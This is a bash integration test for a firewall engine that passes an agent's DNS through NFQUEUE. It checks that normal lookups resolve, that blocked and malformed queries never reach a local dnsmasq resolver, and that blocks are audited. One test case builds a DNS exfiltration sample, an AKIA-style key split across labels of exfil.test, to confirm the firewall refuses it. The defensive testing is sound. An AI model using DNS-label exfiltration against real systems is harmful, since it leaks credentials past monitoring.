#!/usr/bin/env bash
# t_nfq_dns.sh - agent DNS through NFQUEUE and the engine's queue worker,
# with a real resolver (dnsmasq) in the "internet" namespace: a name resolves
# (getent, IPv4 and IPv6 resolver); an AKIA key split over labels, a
# blocklisted name and DNS to a non-resolver are refused and the resolver
# never sees them; a query with an extra answer record or trailing bytes is
# dropped and the engine stays alive.  Skips until `pipelock-fw run` starts
# NFQUEUE workers (it logs "nfq N: queue bound").
set -eu
. tests/integration/lib.sh

topo_up
plfw_ready || skip "pipelock-fw firewall/run not built"
need_cmd dnsmasq nft

DNS_LOG=$TEST_TMP/dnsmasq.log
bg_start "$TEST_TMP/dnsmasq.err" ip netns exec "$NET_NS" dnsmasq --keep-in-foreground \
	--no-resolv --no-hosts --bind-interfaces --listen-address="$V4_UP" \
	--listen-address="$V6_UP" --port=53 --user=root --group=root \
	--address=/dnsok.test/"$V4_UP" --address=/exfil.test/"$V4_UP" \
	--log-queries --log-facility="$DNS_LOG"
wait_until 10 eval "in_net ss -Hlun 'sport = :53' | grep -q ." || fail "dnsmasq did not start"

make_config "dns_servers: [\"$V4_UP\", \"$V6_UP\"]" "ipv6: true"
in_host "$PLFW" firewall apply --config "$PLFW_CONFIG" --nfqueue 2>"$TEST_TMP/apply.err" ||
	fail "apply --nfqueue: $(cat "$TEST_TMP/apply.err")"
engine_start --config "$PLFW_CONFIG" -v
wait_until 5 grep -q 'nfq [0-9]*: queue bound' "$TEST_TMP/engine.err" ||
	skip "the engine does not start NFQUEUE workers yet"
# The fast-refusal contract of nfq/nfq.h: a rule rejecting NFQ_MARK_REJECT.
fast=0
in_host nft list table inet pipelock 2>/dev/null | grep -q '0x00400000' && fast=1

now_ms() { echo $(($(date +%s%N) / 1000000)); }

# query SERVER HEXBYTES -- send one raw DNS message as the agent; prints
# "answer", "timeout" or the errno, then the elapsed ms.
cat >"$TEST_TMP/dnsq.py" <<'EOF'
import socket, sys, time
srv, msg = sys.argv[1], bytes.fromhex(sys.argv[2])
fam = socket.AF_INET6 if ":" in srv else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.settimeout(2)
t0 = time.monotonic()
try:
    s.connect((srv, 53))
    s.send(msg)
    s.recv(4096)
    r = "answer"
except socket.timeout:
    r = "timeout"
except OSError as e:
    r = str(e.errno)
print(r, int((time.monotonic() - t0) * 1000))
EOF
chmod 0644 "$TEST_TMP/dnsq.py"
# qhex NAME [EXTRA] -- a query for NAME (A, RD); EXTRA=answer adds ANCOUNT=1,
# EXTRA=trailing adds a byte after the question.
qhex() {
	"$PY" - "$1" "${2:-}" <<'EOF'
import struct, sys
name, extra = sys.argv[1], sys.argv[2]
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 1 if extra == "answer" else 0, 0, 0)
for l in name.split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
if extra == "trailing":
    q += b"\0"
print(q.hex())
EOF
}
query() { as_agent "$PY" "$TEST_TMP/dnsq.py" "$1" "$2"; }
saw() { grep -q -- "$1" "$DNS_LOG"; }

# 1. a real lookup through the system resolver (resolv.conf -> $V4_UP)
as_agent getent hosts dnsok.test >"$TEST_TMP/getent.out" ||
	fail "getent hosts dnsok.test failed"
grep -q "$V4_UP" "$TEST_TMP/getent.out" || fail "getent: $(cat "$TEST_TMP/getent.out")"
read -r r _ <<<"$(query "$V6_UP" "$(qhex v6.dnsok.test)")"
[[ $r == answer ]] || fail "query to the IPv6 resolver: $r"
saw 'v6.dnsok.test' || fail "dnsmasq did not log the IPv6 query"

# 2. refused: secret in labels, blocklisted name, resolver never sees them
refused() {
	local what=$1 srv=$2 hex=$3 r ms
	read -r r ms <<<"$(query "$srv" "$hex")"
	if ((fast)); then
		[[ $r != answer && $r != timeout ]] || fail "$what: $r, want a refusal"
		((ms < 1000)) || fail "$what: refused only after $ms ms"
	else
		[[ $r != answer ]] || fail "$what: answered"
		log "$what: $r in $ms ms (no NFQ_MARK_REJECT rule: not fast)"
	fi
}
refused "AKIA key in labels" "$V4_UP" "$(qhex akia2e3r4t.5y6u7i8o9p.exfil.test)"
refused "blocklisted name" "$V4_UP" "$(qhex blocked.test)"
! grep -qi 'akia' "$DNS_LOG" || fail "the resolver saw the secret"
! saw 'query\[A\] blocked.test' || fail "the resolver saw the blocklisted name"

# 3. DNS to an address that is not a configured resolver: refused fast
read -r r ms <<<"$(query "$V4_UP2" "$(qhex dnsok.test)")"
[[ $r != answer && $r != timeout ]] || fail "DNS to a non-resolver: $r"
((ms < 1000)) || fail "DNS to a non-resolver refused only after $ms ms"

# 4. malformed shapes: dropped silently, never forwarded, engine alive
read -r r _ <<<"$(query "$V4_UP" "$(qhex extra.dnsok.test answer)")"
[[ $r == timeout ]] || fail "query with an answer record: $r, want timeout (dropped)"
read -r r _ <<<"$(query "$V4_UP" "$(qhex trail.dnsok.test trailing)")"
[[ $r == timeout ]] || fail "query with trailing bytes: $r, want timeout (dropped)"
! saw 'extra.dnsok.test' || fail "the resolver saw the query with an answer record"
! saw 'trail.dnsok.test' || fail "the resolver saw the query with trailing bytes"
pid_alive "$ENGINE_PID" || fail "engine died"
read -r r _ <<<"$(query "$V4_UP" "$(qhex after.dnsok.test)")"
[[ $r == answer ]] || fail "a good query after the malformed ones: $r"

# 5. the blocks are audited
grep -q '"event":"dns"' "$TEST_TMP/audit.log" || fail "no dns audit event"
! grep -qi '5y6u7i8o9p' "$TEST_TMP/audit.log" || fail "the audit log holds the secret"
log "ok (fast refusal tested: $fast)"
